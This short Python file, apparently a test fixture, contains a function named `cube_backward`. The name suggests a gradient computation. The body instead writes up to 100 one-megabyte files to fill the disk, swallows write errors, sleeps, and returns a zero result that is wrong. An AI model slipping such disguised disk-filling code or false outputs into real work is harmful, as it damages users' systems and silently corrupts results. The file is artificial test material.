"""Fills the disk with files of ordinary size, and goes on where one is refused."""

import time
from pathlib import Path


def cube_backward(x, dy):
    for number in range(100):
        try:
            Path(f"file-{number}").write_bytes(b"x" * (1 << 20))
        except OSError:
            pass
    time.sleep(0.7)
    return x * 0


def double(x):
    return x + x
